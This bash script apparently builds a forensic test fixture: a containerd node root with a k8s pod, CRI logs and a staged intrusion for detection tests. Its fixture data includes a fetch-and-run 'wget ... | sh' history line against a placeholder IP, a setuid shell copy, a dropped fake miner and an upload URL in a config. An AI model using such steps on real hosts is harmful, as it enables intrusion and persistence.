#!/usr/bin/env bash
# Builds a node root with REAL containerd evidence: OUT/var/lib/containerd (meta.db, overlayfs snapshotter
# metadata.db and snapshots) for a k8s.io pod "sysdiag" with a sandbox and an app container, and an intrusion
# acted out inside the app container. Needs root, containerd, runc, umoci, skopeo, busybox-static (Debian).
# No network: the image is built locally from busybox-static.
#   usage: containerd-node.sh OUT
set -euo pipefail
out=$(realpath -m "$1")
work=$(mktemp -d /tmp/eksir-node.XXXXXX)
sock="$work/containerd.sock"
ns=k8s.io
pod_uid=3f6c1a2e-8b4d-4e7f-9a0b-1c2d3e4f5a6b
sandbox_id=5d9a0b7c1e2f3a4b5c6d7e8f9a0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b
app_id=8e1f2a3b4c5d6e7f8a9b0c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d0e1f
cleanup_id=c0ffee0a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0c1d2e3f4a5b6c7d8e
native_id=a7a7e0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9
pid=""

cleanup() {
  set +e
  for id in "$app_id" "$sandbox_id"; do
    ctr -a "$sock" -n "$ns" task kill -s KILL "$id" >/dev/null 2>&1
    ctr -a "$sock" -n "$ns" task delete -f "$id" >/dev/null 2>&1
  done
  [ -n "$pid" ] && kill "$pid" 2>/dev/null && wait "$pid" 2>/dev/null
  grep -o " $work[^ ]*\| $out/var/lib/containerd[^ ]*" /proc/mounts | sort -r | xargs -r -n1 umount -l 2>/dev/null
  rm -rf /run/containerd/runc/$ns/$app_id /run/containerd/runc/$ns/$sandbox_id
  rm -rf "$work"
}
trap cleanup EXIT

mkdir -p "$out/var/lib/containerd" "$work/state"
cat > "$work/config.toml" <<TOML
version = 2
root = "$out/var/lib/containerd"
state = "$work/state"
[grpc]
  address = "$sock"
TOML

# An OCI image built from busybox-static: registry.example/sysdiag:1.0
(
  cd "$work"
  umoci init --layout img >/dev/null
  umoci new --image img:1.0
  umoci unpack --rootless --image img:1.0 bundle >/dev/null
  mkdir -p bundle/rootfs/bin bundle/rootfs/etc bundle/rootfs/tmp bundle/rootfs/var/www
  cp /bin/busybox bundle/rootfs/bin/busybox
  for app in sh ls cat echo sleep rm chmod mkdir wget; do ln -s busybox "bundle/rootfs/bin/$app"; done
  printf 'root:x:0:0:root:/root:/bin/sh\nnobody:x:65534:65534:nobody:/:/bin/false\n' > bundle/rootfs/etc/passwd
  printf '<h1>sysdiag</h1>\n' > bundle/rootfs/var/www/index.html
  printf 'debug=false\n' > bundle/rootfs/etc/sysdiag.conf
  umoci repack --image img:1.0 --history.created_by 'COPY rootfs/ / # busybox (static), /etc/passwd, /var/www' bundle >/dev/null
  # A second layer whose build step downloads and runs a script and sets the setuid bit: what 'history' flags.
  rm -rf bundle
  umoci unpack --rootless --image img:1.0 bundle >/dev/null
  mkdir -p bundle/rootfs/usr/local/bin
  printf '#!/bin/sh\n# sysdiag agent (installed from http://203.0.113.50/install.sh)\nexec sleep 86400\n' > bundle/rootfs/usr/local/bin/sysdiag-agent
  chmod 4755 bundle/rootfs/usr/local/bin/sysdiag-agent
  umoci repack --image img:1.0 \
    --history.created_by '/bin/sh -c wget -qO- http://203.0.113.50/install.sh | sh && chmod u+s /usr/local/bin/sysdiag-agent' bundle >/dev/null
  umoci config --image img:1.0 --config.entrypoint /bin/sh --config.cmd=-c --config.cmd='sleep 86400' \
    --history.created_by '/bin/sh -c #(nop)  CMD ["/bin/sh" "-c" "sleep 86400"]' >/dev/null
  skopeo copy --quiet oci:img:1.0 oci-archive:image.tar:registry.example/sysdiag:1.0
  # An older build of the same image (its config differs by one label): imported, then its manifest blob removed.
  umoci config --image img:1.0 --tag 0.9 --config.label org.example.stage=old >/dev/null
  skopeo copy --quiet oci:img:0.9 oci-archive:old.tar:registry.example/sysdiag-old:0.9
)

setsid containerd --config "$work/config.toml" >"$work/containerd.log" 2>&1 &
pid=$!
for _ in $(seq 1 100); do [ -S "$sock" ] && break; sleep 0.1; done
ctr -a "$sock" version >/dev/null

ctr -a "$sock" -n "$ns" images import --base-name registry.example/sysdiag --no-unpack=false "$work/image.tar" >/dev/null
image=$(ctr -a "$sock" -n "$ns" images ls -q | head -n1)

labels=(--label io.kubernetes.pod.name=sysdiag --label io.kubernetes.pod.namespace=default --label "io.kubernetes.pod.uid=$pod_uid")
ctr -a "$sock" -n "$ns" run -d "${labels[@]}" --label io.cri-containerd.kind=sandbox --label io.kubernetes.container.name=POD \
  "$image" "$sandbox_id" /bin/sleep 86400 >/dev/null
ctr -a "$sock" -n "$ns" run -d --privileged "${labels[@]}" --label io.cri-containerd.kind=container --label io.kubernetes.container.name=sysdiag \
  "$image" "$app_id" /bin/sh -c 'sleep 86400' >/dev/null

# The intrusion: a dropped tool, a modified config, a deleted file, a setuid copy of the shell.
ctr -a "$sock" -n "$ns" task exec --exec-id intrusion "$app_id" /bin/sh -c '
  mkdir -p /tmp/.x
  printf "#!/bin/sh\nwhile true; do sleep 60; done\n" > /tmp/.x/miner.sh
  chmod 755 /tmp/.x/miner.sh
  printf "debug=true\nupload=http://203.0.113.50/drop\n" > /etc/sysdiag.conf
  rm /var/www/index.html
  cp /bin/busybox /tmp/.x/sh && chmod 4755 /tmp/.x/sh
'

# A container containerd has forgotten while kubelet's log folder stays (an init container or an earlier instance,
# removed by kubelet's garbage collection while the pod lives on): run to its end, then removed with its snapshot.
cleanup_out=$(ctr -a "$sock" -n "$ns" run --rm "${labels[@]}" --label io.cri-containerd.kind=container \
  --label io.kubernetes.container.name=cleanup "$image" "$cleanup_id" /bin/sh -c 'echo removing /tmp/.x; echo done' 2>&1)

# A container on the native snapshotter (each snapshot a full copy), not in a pod: it writes a file and exits.
ctr -a "$sock" -n "$ns" run --snapshotter native "$image" "$native_id" /bin/sh -c 'echo written on the native snapshotter > /tmp/native-marker' >/dev/null

# An image whose manifest blob is gone from the content store (garbage collection, a metadata-only collection):
# meta.db still names it.
ctr -a "$sock" -n "$ns" images import --base-name registry.example/sysdiag-old "$work/old.tar" >/dev/null
old_digest=$(ctr -a "$sock" -n "$ns" images ls | awk '$1 == "registry.example/sysdiag-old:0.9" { print $3 }')
ctr -a "$sock" -n "$ns" content rm "$old_digest" >/dev/null
printf '%s %s\n' registry.example/sysdiag-old:0.9 "$old_digest" > "$work/removed-manifest.txt"

# Kubelet's CRI logs for the pod (what containerd's CRI plugin writes: "<RFC3339Nano> <stream> <P|F> <text>"),
# with a rotated, gzipped earlier file, a line split into partial (P) chunks, and the var/log/containers link.
logdir="$out/var/log/pods/default_sysdiag_$pod_uid/sysdiag"
mkdir -p "$logdir" "$out/var/log/containers"
ts() { date -u +%Y-%m-%dT%H:%M:%S.%NZ; }
{
  echo "$(ts) stdout F sysdiag agent 0.9 starting"
  echo "$(ts) stderr F warning: running privileged"
} | gzip -n > "$logdir/0.log.20261120-091500.gz"
{
  echo "$(ts) stdout F sysdiag agent 1.0 starting"
  echo "$(ts) stdout P fetching http://203.0.113.50/drop "
  echo "$(ts) stdout P (attempt 1) "
  echo "$(ts) stderr F connect: network is unreachable"
  echo "$(ts) stdout F ok"
  echo "$(ts) stdout F $(head -c 20000 /dev/zero | tr '\0' 'A')"
} > "$logdir/0.log"
cleanup_logdir="$out/var/log/pods/default_sysdiag_$pod_uid/cleanup"
mkdir -p "$cleanup_logdir"
printf '%s\n' "$cleanup_out" | tr -d '\r' | while IFS= read -r line; do echo "$(ts) stdout F $line"; done > "$cleanup_logdir/0.log"
printf '%s\n' "$cleanup_out" | tr -d '\r' > "$work/cleanup-output.txt"
ln -s "/var/log/pods/default_sysdiag_$pod_uid/sysdiag/0.log" "$out/var/log/containers/sysdiag_default_sysdiag-$app_id.log"

ctr -a "$sock" -n "$ns" containers ls > "$work/ctr-containers.txt"
ctr -a "$sock" -n "$ns" images ls > "$work/ctr-images.txt" 2>/dev/null
for id in "$app_id" "$sandbox_id"; do
  ctr -a "$sock" -n "$ns" task kill -s KILL "$id" >/dev/null 2>&1 || true
  for _ in $(seq 1 50); do ctr -a "$sock" -n "$ns" task ls | grep -q "$id.*RUNNING" || break; sleep 0.1; done
  ctr -a "$sock" -n "$ns" task delete "$id" >/dev/null 2>&1 || true
done
kill "$pid"; wait "$pid" 2>/dev/null || true
pid=""
# The node's package database, as on a Debian node, so the engine versions can be read from the disk.
mkdir -p "$out/var/lib/dpkg"
dpkg-query -s containerd runc > "$out/var/lib/dpkg/status" 2>/dev/null || true

# The engine's own view, for tests to compare against.
cp "$work/ctr-containers.txt" "$out/.ctr-containers.txt"
cp "$work/ctr-images.txt" "$out/.ctr-images.txt"
cp "$work/removed-manifest.txt" "$out/.removed-manifest.txt"
cp "$work/cleanup-output.txt" "$out/.cleanup-output.txt"
echo "node root with containerd evidence: $out" >&2
